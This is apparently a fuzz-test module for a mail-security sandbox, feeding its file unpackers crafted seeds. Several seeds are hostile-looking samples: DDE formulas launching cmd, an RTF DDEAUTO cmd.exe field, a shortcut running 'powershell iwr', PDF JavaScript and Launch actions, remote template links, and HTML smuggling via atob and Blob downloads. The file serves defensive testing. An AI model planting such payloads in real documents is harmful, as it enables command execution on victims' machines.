"""What opens hostile files in the sandbox: every opener of ours, on octets that are given its kind whatever they are."""

from __future__ import annotations

import base64
import struct
import traceback
from collections.abc import Callable

from mailguard.checks.unpack_answer import read_answer
from mailguard.checks.unpack_symbols import SYMBOLS
from mailguard.message.page_facts import facts_of_page
from mailguard.message.pages import PageKind, page_of
from mailguard.sandbox.frames import ANSWER_RAW_LIMIT, HEADER_LIMIT, pack
from mailguard.sandbox.unpack import pdf
from mailguard.sandbox.unpack.answer import answer_of
from mailguard.sandbox.unpack.kinds import kind_of, readings
from mailguard.sandbox.unpack.openers import OPENERS
from mailguard.sandbox.unpack.tree import take_apart, walk
from mailguard.sandbox.unpack.work import EVIDENCE, FINDINGS, NAME, Bounds, File, Work
from mailguard.sandbox.values import Answer, Outcome
from tests.fuzz.target import Input, Target
from tests.fuzz.targets.mime import MAILS
from tests.unit.sandbox.unpack.test_disks import fat12
from tests.unit.sandbox.unpack.test_encoded import binhex, uu

BOUNDS = Bounds(octets=8 * 1024 * 1024, files=100, depth=3, seconds=0.8, ratio_from=1024 * 1024)
_OF_OURS = (TypeError, AttributeError, NameError, AssertionError, ZeroDivisionError, RecursionError)
"""What no reader raises of a broken file but by a mistake of its own: the rest of the file is then not looked into."""


def opened(root: File) -> None:
    """Take a file apart; what must hold of any: bounds, known symbols, an answer that the relay believes whole."""
    work = Work(root, bounds=BOUNDS, passwords=("infected", "a"))
    take_apart(work, _told)
    files = [*walk(root)]
    assert len(files) <= BOUNDS.files + 1
    assert sum(len(file.raw) for file in files[1:]) <= BOUNDS.octets
    for file in files:
        assert file.depth <= BOUNDS.depth + 1
        assert len(file.name) <= NAME
        assert len(file.found) <= FINDINGS
        for symbol, evidence in file.found:
            assert symbol in SYMBOLS, symbol
            assert len(evidence) <= EVIDENCE
    answer = answer_of(files, [], work)
    assert len(pack({"value": answer.value}, answer.raw)) <= HEADER_LIMIT + ANSWER_RAW_LIMIT
    tree = read_answer(Answer(Outcome.OK, answer.value, raw=answer.raw), root.name, "")
    assert tree is not None
    assert len(tree.nodes) == len(files)


def _told(work: Work, file: File, error: Exception) -> None:
    """A broken file is none of our business; a mistake of our own readers is."""
    if isinstance(error, _OF_OURS) and "/mailguard/" in traceback.extract_tb(error.__traceback__)[-1].filename:
        raise error


def _as(kind: str, name: str) -> Callable[[bytes], None]:
    def run(data: bytes) -> None:
        """A file of the kind."""
        opened(File(name, Input(data).long_rest(), kind))

    return run


def of_any_kind(data: bytes) -> None:
    """A file of the kind that it is taken for, with what else it is."""
    source = Input(data)
    name = source.text()
    raw = source.long_rest()
    kind = kind_of(raw, name)
    assert "/" in kind
    for other, at in readings(raw, kind):
        assert other in OPENERS
        assert 0 <= at < len(raw)
    opened(File(name[-NAME:], raw, kind))


def broken_pdf(data: bytes) -> None:
    """A PDF that cannot be read otherwise, searched as it stands."""
    root = File("a.pdf", Input(data).long_rest(), "application/pdf")
    pdf._by_patterns(root, Work(root, bounds=BOUNDS))
    assert all(symbol in SYMBOLS for symbol, _ in root.found)


def page_facts(data: bytes) -> None:
    """What acts in a page or a picture."""
    source = Input(data)
    kind = (PageKind.HTML, PageKind.SVG)[source.below(2)]
    for symbol, evidence in facts_of_page(page_of("a", kind, source.long_rest(), "")):
        assert symbol in SYMBOLS
        assert len(evidence) <= 500


_TNEF = bytes.fromhex("789f3e22") + b"\1\0"


def _attribute(level: int, identity: int, data: bytes) -> bytes:
    return struct.pack("<BII", level, identity, len(data)) + data + struct.pack("<H", sum(data) & 0xFFFF)


def _property(identity: int, kind: int, value: bytes) -> bytes:
    return struct.pack("<HHII", kind, identity, 1, len(value)) + value + bytes(-len(value) % 4)


_PROPERTIES = (
    struct.pack("<I", 2)
    + struct.pack("<HHHH", 0x03, 0x0E20, 9, 0)
    + _property(0x3707, 0x1F, "längerer Name.exe\0".encode("utf-16-le"))
)
_SIGNED = bytes.fromhex("3080") + bytes.fromhex("06092a864886f70d010702") + bytes.fromhex("a0803080020101310030800609")
_SIGNED += bytes.fromhex("2a864886f70d010701a0802480040568656c6c6f0000000000000000000000000000")
_NATIVE = (
    b"\x02\0a.exe\0C:\\a.exe\0\0\0\x03\0" + struct.pack("<I", 9) + b"C:\\a.exe\0" + struct.pack("<I", 4) + b"MZ\0\0"
)
_OBJECT = (
    struct.pack("<II", 0x501, 2)
    + struct.pack("<I", 8)
    + b"Package\0"
    + bytes(8)
    + struct.pack("<I", len(_NATIVE))
    + _NATIVE
)
_STORED = bytes.fromhex("E716E3BD65261145A4C48D4D0B7A9EAC")
_LINK = b"L\0\0\0" + bytes.fromhex("0114020000000000C000000000000046")
_SHOWN = b"".join(struct.pack("<H", len(one)) + one.encode("utf-16-le") for one in ("cmd.exe", "/c powershell iwr"))
_DYNAMIC = (
    b"conectix".ljust(16, b"\0") + struct.pack(">Q", 512) + bytes(36) + struct.pack(">I", 3) + bytes(448)
    + b"cxsparse" + bytes(8) + struct.pack(">QII", 1536, 0, 2) + struct.pack(">I", 512) + bytes(988) + bytes(3) + b"\5"
)  # fmt: skip

TARGETS = (
    Target(
        "any_file",
        of_any_kind,
        (
            b"a.zip\0\0PK\3\4" + bytes(26) + b"PK\1\2" + bytes(42) + b"PK\5\6" + bytes(18),
            b"a.gif\0\0GIF89a\xfd\0\xfe\x40PK\1\2PK\5\6" + bytes(18),
            b"a.txt\0\0\xfdTVqQAAMAAAA=\n\xfe\x20",
            b"a.pdf\0\0%PDF-1.4\n1 0 obj<</S/JavaScript/JS(app.alert)>>endobj",
            b"a.tar\0\0" + b"a.exe".ljust(100, b"\0") + b"0000644\0" * 3 + b"00000000004\0",
            b"a.gz\0\0\x1f\x8b\x08\0\0\0\0\0\0\3\3\0\0\0\0\0\0\0\0\0",
            b"a.doc\0\0\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504),
            b"a.csv\0\0=cmd|'/c calc'!A0",
        ),
        tokens=(b"PK\3\4", b"PK\1\2", b"PK\5\6", b"%PDF-", b"Rar!\x1a\x07\0", b"MZ", b"ustar", b"7z\xbc\xaf\x27\x1c", b"MSCF", b"CD001"),
    ),
    Target(
        "tnef",
        _as("application/vnd.ms-tnef", "winmail.dat"),
        (
            _TNEF + _attribute(2, 0x00069002, bytes(14)) + _attribute(2, 0x00018010, b"L~1.EXE\0") + _attribute(2, 0x0006800F, b"MZ") + _attribute(2, 0x00069005, _PROPERTIES),
            _TNEF + _attribute(1, 0x00069003, struct.pack("<I", 1) + _property(0x1013, 0x102, b"<html><a href='https://a.example'>b</a>")),
            _TNEF + b"\xfd" + _attribute(2, 0x00069002, bytes(14)) + b"\xfe\x40",
            _TNEF + b"\2\5\x90\6\0\xff\xff\xff\x7f" + struct.pack("<I", 0x7FFFFFFF) + b"\xfd\x1f\x10\7\x37\xff\xff\xff\x7f\xfe\x40",
        ),
        tokens=(b"\2\2\x90\6\0", b"\2\x0f\x80\6\0", b"\2\5\x90\6\0", b"\1\3\x90\6\0", b"\xff\xff\xff\x7f", b"\x1f\x10", b"\x0d\0\1\x37"),
    ),
    Target(
        "pkcs7",
        _as("application/pkcs7-mime", "smime.p7m"),
        (_SIGNED, base64.encodebytes(_SIGNED), b"\xfd\x30\x80\xfe\x40", b"\xfd\x24\x80\xfe\x40\4\1a", b"\x30\x84\xff\xff\xff\xff\6\1\0", _SIGNED[:40] + b"\xfd\x04\x01a\xfe\x60"),
        tokens=(b"\x30\x80", b"\x24\x80", b"\xa0\x80", b"\0\0", b"\4\x82\1\0", b"\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x02", b"\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x03"),
    ),
    Target(
        "card_files",
        _as("text/vcard", "a.vcf"),
        (
            b"BEGIN:VCARD\r\nPHOTO;ENCODING=b;TYPE=JPEG:TVqQAAMAAAA=\r\nEND:VCARD\r\n",
            b"BEGIN:VCALENDAR\r\nATTACH;FMTTYPE=text/plain;ENCODING=BASE64;VALUE=BINARY;X-FILENAME=\"a.exe\":TVqQ\r\n AAMA\r\n",
            b"KEY:data:application/x;base64,TVqQAAMAAAA=\r\n\xfd \xfe\x60",
            b"\xfdATTACH;ENCODING=BASE64:TVqQ\r\n\xfe\x40",
            b"ATTACH;\xfda=\"\xfe\x60:TVqQ",
            b"ATTACH\xfd;\xfe\x60",
        ),
        tokens=(b"ATTACH;", b"ENCODING=BASE64", b"VALUE=BINARY", b"FILENAME=", b"data:", b"\r\n ", b"PHOTO;"),
    ),
    Target(
        "rtf",
        _as("application/rtf", "a.rtf"),
        (
            b"{\\rtf1{\\object\\objemb{\\*\\objdata " + _OBJECT.hex().encode() + b"}}}",
            b"{\\rtf1{\\*\\template http://a.example/t}}",
            b"{\\rt{\\object\\objupdate{\\*\\objclass Equation.3}{\\*\\objdata 01\\'aa05\\bin5 abcde0000}}",
            b"{\\rtf1{\\field{\\*\\fldinst {DDEAUTO c:\\\\windows\\\\cmd.exe \"/k calc\"}}}}",
            b"{\\rtf1\xfd{\\object\\objdata 0105\xfe\x40",
            b"{\\rtf1{\\*\\objdata \xfd\\'\xfe\x40",
            b"{\\rtf1{\\*\\objdata \xfd\\bin0 \xfe\x40",
            b"{\\rtf1{\\*\\template \xfd\\u8? \xfe\x40",
            b"{\\rtf1\xfd{\\field{\\*\\fldinst DDE\xfe\x40",
            b"\xfd{\\*\xfe\x40\\rtf1",
        ),
        tokens=(b"{\\object", b"\\objdata ", b"\\objupdate", b"\\objclass ", b"{\\*\\template ", b"\\bin", b"{\\*\\fldinst ", b"\\'41", b"\\u65?", b"}"),
        max_length=2048,
    ),
    Target(
        "onenote",
        _as("application/onenote", "a.one"),
        (
            bytes.fromhex("E4525C7B8CD8A74DAEB15378D02996D3") + "open.hta".encode("utf-16-le") + b"\0\0" + _STORED + struct.pack("<QIQ", 5, 0, 0) + b"<hta:",
            b"\xfd" + _STORED + struct.pack("<QIQ", 65, 0, 0) + b"\xfe\x40",
            b"\xfda\0\xfe\x60.\0",
            b"\xfda\0.\0b\0b\0\xfe\x60",
            b"\xfd" + _STORED + b"\xfe\x40",
        ),
        tokens=(_STORED, b"a\0.\0h\0t\0a\0\0\0", b"<hta:", b"\x89PNG"),
    ),
    Target(
        "shortcut",
        _as("application/x-ms-shortcut", "a.lnk"),
        (
            _LINK + struct.pack("<I", 8 | 32 | 128) + bytes(52) + _SHOWN,
            _LINK + struct.pack("<I", 0xFF) + bytes(52) + struct.pack("<H", 20) + b"\x12\0\x1f\x50" + bytes(16) + struct.pack("<IIIIII", 60, 28, 3, 0, 28, 28) + b"\\\\a\\b\0" + bytes(30),
            _LINK + b"\xff\xff\xff\xff" + bytes(52) + b"\xfd\xff\xff\xfe\x60",
            _LINK + b"\1\0\0\0" + bytes(52) + b"\xff\xff\xfd\3\0a\xfe\x60",
        ),
        tokens=(b"\x14\0\0\0", b"\x1c\0\0\0", b"\xff\xff", b"c\0m\0d\0.\0e\0x\0e\0", b"\\\\", b"MZ", b"<hta:"),
    ),
    Target(
        "text_shortcuts",
        _as("text/plain", "a.url"),
        (
            b"[InternetShortcut]\r\nURL=file://a.example/share/x.exe\r\nIconFile=\\\\a\\b\r\n",
            b"WEB\n1\nhttp://a.example/q\n",
            b"ID;P\nC;X1;E=cmd|'/c calc'!A0\n\xfdC;E=\xfe\x40",
            b"<?xml version='1.0'?><libraryDescription><url>\\\\a\\b</url>\xfd<url>\xfe\x40",
            b"=cmd|'/c calc'!A0,\xfd=\xfe\x60",
            b"\xfd=a|\xfe\x60",
            b"\xfd@a,\xfe\x60",
            b"=\xfda.\xfe\x60|x!",
            b"=\xfd\"A\xfe\x60",
            b"\xff\xfe" + "[InternetShortcut]\r\nURL=cmd".encode("utf-16-le"),
        ),
        tokens=(b"[InternetShortcut]", b"URL=", b"=cmd|'", b"'!A0", b"C;E=", b"<url>", b"DDE", b"\n@", b"HYPERLINK(", b"begin 644 "),
    ),
    Target(
        "encoded_texts",
        _as("text/plain", "a.txt"),
        (
            uu(b"MZ\0\0" * 20),
            binhex(b"MZ\0\0" * 20),
            base64.encodebytes(b"MZ\0\0" * 40),
            b"begin-base64 644 a.exe\nTVqQ\n====\n",
            b"\xfdbegin 644 a\n\xfe\x40",
            b"(This file must be converted with BinHex 4.0)\n\n:\xfd\"\xfe\x60",
            b"\xfdbegin 644 a\n#86)C\n`\nend\n\xfe\x40",
            b"\xfd-----BEGIN CERTIFICATE-----\n\xfe\x40",
            b"\xfdA\xfe\x80",
        ),
        tokens=(b"begin 644 a.exe\n", b"end\n", b"`\n", b"-----BEGIN X-----\n", b"TVqQAAMAAAAEAAAA", b"(This file must be converted with BinHex"),
    ),
    Target(
        "disks",
        _as("application/x-raw-disk-image", "a.img"),
        (
            fat12(b"MZ\0\0" * 100)[:4096],
            _DYNAMIC,
            bytes(446) + struct.pack("<B3sB3sII", 0, b"", 1, b"", 1, 64) + bytes(48) + b"\x55\xaa" + fat12(b"x" * 600)[:4096],
            b"conectix" + bytes(8) + struct.pack(">Q", 512) + bytes(36) + struct.pack(">I", 3) + bytes(448) + b"cxsparse" + bytes(8) + struct.pack(">QII", 0, 0, 65536) + b"\xff\xff\xff\xff",
        ),
        tokens=(b"\x55\xaa", b"\xeb\x3c\x90", b"conectix", b"cxsparse", b"EFI PART", b"\xff\xff\xff\xff", b"\xff\x0f"),
        max_length=6144,
    ),
    Target(
        "flat_office",
        _as("application/x-office-xml", "a.xml"),
        (
            b"<pkg:part pkg:name='/word/vbaProject.bin'><pkg:binaryData>TVqQAAMAAAA=</pkg:binaryData></pkg:part>",
            b"<Cell ss:Formula=\"=cmd|'/c calc'!A0\"/><Relationship Type='x/attachedTemplate' Target='http://a/' TargetMode='External'/>",
            b"\xfd<pkg:part pkg:name='\xfe\x60",
            b"\xfd<Relationship \xfe\x60",
            b"<w:instrText>DDEAUTO \xfd<w:fldChar w:fldCharType='begin'/>\xfe\x40",
            b"<pkg:binaryData>\xfdQWN0aXZlTWltZQ\xfe\x40",
        ),
        tokens=(b"<pkg:part ", b"pkg:name='", b"<pkg:binaryData>", b"<w:binData w:name='", b"<Relationship ", b"Target='", b"<w:instrText>", b"ss:Formula=\"", b"<SupBook>", b"&#x41;"),
    ),
    Target(
        "mail_files",
        _as("message/rfc822", "a.eml"),
        MAILS,
        tokens=(b"Content-Type: ", b"multipart/mixed; boundary=b", b"--b\r\n", b"Content-Transfer-Encoding: base64", b"message/rfc822", b"application/octet-stream; name=a.zip"),
    ),
    Target(
        "page_files",
        _as("text/html", "a.html"),
        (
            b"<script>var a=atob('UEsDBAoAAAAAAAAAIQAAAAAAAAAAAAAAAAAFAAAAYS50eHRQSwECFAM=');</script>",
            b"<a href='data:application/zip;base64,UEsDBAoAAAAAAAAAIQAAAAAAAAAAAAAAAAA='>",
            b"<script>x='4d5a" + b"00" * 60 + b"';y='\\x4d\\x5a" + b"\\x00" * 60 + b"'</script>",
            b"<script>[77,90" + b",0" * 100 + b"]</script>",
            b"\xfd'+'\xfe\x60",
            b"<script>'AAAA\xfd'+\"\xfe\x60",
            b"\xfda=a+'x';\xfe\x60",
            b"\xfd77,\xfe\x80",
            b"\xfd%41\xfe\x80",
            b"\xfd\\u0041\xfe\x80",
            b"data:\xfda;\xfe\x80base64,",
        ),
        tokens=(b"atob('", b"data:", b";base64,", b"'+'", b"\\x4d", b"%4d", b"77,90,", b"<script>", b".push('", b".concat('", b".reverse()"),
    ),
    Target(
        "broken_pdf",
        broken_pdf,
        (
            b"1 0 obj<</S/JavaScript/JS(app.launchURL('http://a'))>>",
            b"<</S/L#61unch/Win<</F(cmd.exe)>>>>",
            b"\xfd/JS(\xfe\x60",
            b"\xfd<</S\xfe\x60",
            b"\xfdstream\n\xfe\x60",
        ),
        tokens=(b"/JavaScript", b"/JS", b"/Launch", b"/OpenAction", b"/EmbeddedFile", b"stream\r\n", b"endstream", b"#61", b"/AA", b"/URI("),
    ),
    Target(
        "page_facts",
        page_facts,
        (
            b"\0<form action=http://a><input type=password></form><script>new Blob([atob('x')]);a.download='x'</script>",
            b"\1<svg onload='x()'><foreignObject><script href='http://a'/></svg>",
            b"\0<meta http-equiv=refresh content='0;url=http://a'>\xfd<script>\xfe\x60",
            b"\0\xfdon\xfe\x80",
            b"\1<svg><!ENTITY a '&b;'>\xfd<!ENTITY b '&a;&a;'>\xfe\x20",
            b"\0<p \xfdonclick =\xfe\x60",
            b"\0\xfdatob(\xfe\x60",
            b"\0\xfd<script \xfe\x60",
        ),
        tokens=(b"<script", b"onload=", b"atob(", b"new Blob(", b".download=", b"eval(", b"<meta http-equiv=refresh", b"javascript:", b"createObjectURL", b"<iframe srcdoc="),
    ),
)  # fmt: skip
